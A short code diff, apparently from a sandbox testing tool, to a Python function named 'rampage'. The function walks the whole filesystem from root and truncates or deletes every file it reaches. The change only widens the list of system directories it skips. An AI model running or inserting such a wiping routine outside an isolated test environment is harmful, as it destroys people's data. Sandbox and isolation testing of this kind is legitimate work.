@@ -17,9 +17,9 @@ import os, shutil, sqlite3
 from godel.sandbox.guest import Edit
 
 def rampage():
-    for folder, _, files in os.walk("/"):
-        if folder.startswith(("/proc", "/sys", "/dev")):
-            continue
+    for folder, folders, files in os.walk("/"):
+        kept = not folder.startswith(("/proc", "/sys", "/dev", "/usr", "/opt/godel/packages", "/lib"))
+        folders[:] = folders if kept else []
         for file in files:
             path = os.path.join(folder, file)
             for attempt in (lambda: os.truncate(path, 0), lambda: os.unlink(path)):
